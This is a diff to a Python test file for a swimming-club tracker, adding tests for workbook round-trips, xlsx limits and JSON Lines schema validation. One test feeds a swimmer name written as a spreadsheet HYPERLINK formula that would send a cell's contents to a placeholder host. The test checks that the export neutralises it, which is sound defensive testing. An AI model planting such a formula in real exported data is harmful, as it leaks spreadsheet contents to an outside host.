@@ -10,11 +10,12 @@ from dataclasses import replace
 from pathlib import Path
 
 import pytest
-from hypothesis import HealthCheck, given, settings
+from hypothesis import HealthCheck, Phase, given, settings
 
 from tests.random_clubs import clubs
 from tracker.errors import SlackwaterError, UsageError
 from tracker.records.base import Record
+from tracker.records.club_layout import FILES
 from tracker.records.event import Event
 from tracker.records.review import ReviewItem
 from tracker.records.swim import Swim
@@ -26,6 +27,7 @@ from tracker.usecases.import_club import import_club
 
 AS_OF = dt.date(2026, 6, 30)
 NOW = dt.datetime(2026, 6, 30, 12, tzinfo=dt.UTC)
+NO_SHRINK = (Phase.explicit, Phase.generate)
 ANA = "Ana Prova"
 
 
@@ -203,3 +205,69 @@ def test_a_plain_reader_reads_it_all(store: Store, tmp_path: Path) -> None:
     assert rows["swims"][0]["time"] == "6:45.2"
     assert rows["swims"][0]["note"] == "a\nb"
     assert len(rows) == 11
+
+
+@given(clubs())
+@settings(max_examples=15, deadline=None, suppress_health_check=list(HealthCheck), phases=NO_SHRINK)
+def test_a_workbook_brings_back_the_same_club(club: list[Record]) -> None:
+    """S01, S40."""
+    with tempfile.TemporaryDirectory() as folder:
+        place = Path(folder)
+        store, other = Store.open(place / "first.db"), Store.open(place / "other.db")
+        add(store, club)
+        export_club(store, place / "book", settings=DEFAULT, formats=("xlsx", "csv"))
+        book = place / "book" / "club.xlsx"
+        report = import_club(other, book, as_of=AS_OF, settings=DEFAULT, who="c", at=NOW)
+        assert report.problems == ()
+        export_club(other, place / "again", settings=DEFAULT)
+        store.close()
+        other.close()
+        once = content(place / "book")
+        del once["club.xlsx"]
+        assert once == content(place / "again")
+
+
+def test_a_workbook_holds_no_formula(store: Store, tmp_path: Path) -> None:
+    """S01."""
+    import openpyxl
+
+    add(store, [Swimmer(swimmer='=HYPERLINK("http://x.test/?"&A2,"Ana")', note="#N/A")])
+    export_club(store, tmp_path, settings=DEFAULT, formats=("xlsx",))
+    sheet = openpyxl.load_workbook(tmp_path / "club.xlsx")["swimmers"]
+    assert sheet["A2"].data_type == "s"
+    assert str(sheet["A2"].value).startswith("'=HYPERLINK")
+    assert sheet["G2"].data_type == "s"
+
+
+def test_what_a_workbook_cannot_hold_is_said(store: Store, tmp_path: Path) -> None:
+    """S40."""
+    add(store, [Swimmer(swimmer=ANA, note="_x000B_")])
+    with pytest.raises(SlackwaterError, match="export it as csv"):
+        export_club(store, tmp_path / "x", settings=DEFAULT, formats=("xlsx",))
+    assert not (tmp_path / "x" / "club.xlsx").exists()
+
+
+@given(clubs())
+@settings(max_examples=15, deadline=None, suppress_health_check=list(HealthCheck), phases=NO_SHRINK)
+def test_json_lines_obey_the_committed_schema_and_hold_everything(club: list[Record]) -> None:
+    import json
+
+    import jsonschema  # type: ignore[import-untyped]
+
+    schema = json.loads(
+        (Path(__file__).parents[2] / "tracker" / "output" / "schema" / "club.schema.json").read_text()
+    )
+    with tempfile.TemporaryDirectory() as folder:
+        store = Store.open(Path(folder) / "first.db")
+        add(store, club)
+        export_club(store, Path(folder), settings=DEFAULT, formats=("jsonl",))
+        store.close()
+        lines = [
+            json.loads(line) for line in (Path(folder) / "club.jsonl").read_text("utf-8").split("\n")[:-1]
+        ]
+    validator = jsonschema.Draft202012Validator(schema)
+    for line in lines:
+        validator.validate(line)
+    stems = {file.stem: file.kind for file in FILES}
+    back = [stems[line.pop("record")].model_validate(line) for line in lines]
+    assert sorted(map(repr, back)) == sorted(map(repr, club))
